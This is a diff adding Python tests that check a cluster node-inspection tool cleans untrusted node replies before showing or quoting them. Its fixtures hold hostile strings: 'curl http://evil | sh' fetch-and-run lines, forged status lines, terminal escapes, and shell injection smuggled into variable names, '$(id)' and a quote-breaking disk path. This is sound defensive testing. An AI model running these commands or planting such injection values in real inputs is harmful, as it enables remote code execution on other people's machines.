@@ -6,6 +6,7 @@ Facts of nodes are made by hand; across_nodes.bats probes real nodes.
 from __future__ import annotations
 
 import json
+import shlex
 import time
 from collections.abc import Mapping
 from dataclasses import asdict, replace
@@ -230,6 +231,80 @@ def test_nodes_without_a_usable_reply_have_a_reason() -> None:
     assert list(found.facts) == ["node1"]
     assert found.failed["node2"] == "cannot be reached (ssh: no route); try: ssh node2 true"
     assert found.failed["node3"].startswith("invalid reply (reply: no 'addresses'); use the same version of Muster")
+
+
+FORGED = "\nnode1\nfault    ssh  host key has changed\n         $ curl http://evil | sh\n\x1b[2J\x85\u2028"
+
+
+def hostile(value: Any) -> Any:
+    """Facts of a node with text that imitates other lines in place of every text."""
+    if isinstance(value, dict):
+        return {key: hostile(one) for key, one in value.items()}
+    if isinstance(value, (list, tuple)):
+        return [hostile(one) for one in value]
+    return value + FORGED if isinstance(value, str) else value
+
+
+def lying(**changes: Any) -> Mapping[str, Reply]:
+    """Replies of node1 and of node2, whose facts have these changes, as part__key=value."""
+    facts: dict[str, Any] = asdict(node(2))
+    for path, value in changes.items():
+        part, _, key = path.rpartition("__")
+        (facts["facts"][part] if part else facts["facts"])[key] = value
+    return replies(node1=asdict(node(1)), node2=facts)
+
+
+def test_text_of_a_node_cannot_imitate_lines_about_other_nodes() -> None:
+    facts = hostile(asdict(node(2, torch__error="broken", gpus__error="broken", shadows=("/work/torch.py",))))
+    for found in (facts, facts | {"kit": {f"a{FORGED}": "x"}}):
+        text = text_of(cluster_facts(replies(node1=asdict(node(1)), node2=found), None))
+        lines = text.splitlines()
+        assert text.replace("\n", "").isprintable()
+        assert lines.count("node1") + sum(line.startswith("fault    ssh") for line in lines) == 0
+        assert not any(line.strip().startswith("$ curl") for line in lines)
+
+
+def test_names_of_variables_that_a_node_sends_are_not_part_of_a_command() -> None:
+    env = {"PET_; curl http://evil | sh #": "1", "PET_\nx": "1", "RANK": "0", "NCCL_SOCKET_IFNAME": "$(id)"}
+    text = text_of(cluster_facts(lying(environment=env), None))
+    assert "$ unset RANK\n" in text
+    assert "curl" not in text
+
+
+def test_text_is_made_printable_before_it_is_quoted_in_a_command() -> None:
+    """printable() removes the quotation mark after an escape."""
+    disk = {"purpose": "logs", "path": "/a\x1b'; curl http://evil | sh; '", "total": 1, "free": 1, "writable": False}
+    text = text_of(cluster_facts(lying(disks=[disk]), None))
+    command = next(line for line in text.splitlines() if "$ ls -ld" in line)
+    assert shlex.split(command)[3:] == ["/a; curl http://evil | sh; '"]
+
+
+def test_long_texts_of_a_node_are_cut() -> None:
+    found = lying(
+        interpreter__version="3.12" + "x" * 5000, shadows=["/" + "y" * 5000], environment={"PET_" + "z" * 5000: "1"}
+    )
+    assert max(map(len, text_of(cluster_facts(found, None)).splitlines())) < 1200
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {
+            "torch__capabilities": ["sm_x", "sm_", "\u00b2", "sm_" + "9" * 5000],
+            "torch__archs": ["sm_", "x", "sm_\u00b2"],
+        },
+        {"interpreter__version": "9" * 5000},
+        {"interpreter__version": "\u0663.\u0664"},
+        {"torch__version": "9" * 5000 + ".1"},
+        {"packages": [{"name": "x", "oldest": "1" * 5000, "installed": "2" * 5000}]},
+        {"shadows": ["\0/x.py", ""]},
+        {"runs": [{"directory": "", "pids": [], "user": "", "recorded": True}]},
+        {"memory__total": -5, "cores__quota": 1e18},
+    ],
+)
+def test_strange_facts_of_a_node_do_not_end_the_check_of_the_others(changes: dict[str, Any]) -> None:
+    text = text_of(cluster_facts(lying(**changes), None))
+    assert text.splitlines()[-1].startswith("2 nodes: ")
 
 
 @pytest.mark.parametrize("kind", ["listening", "connecting"])
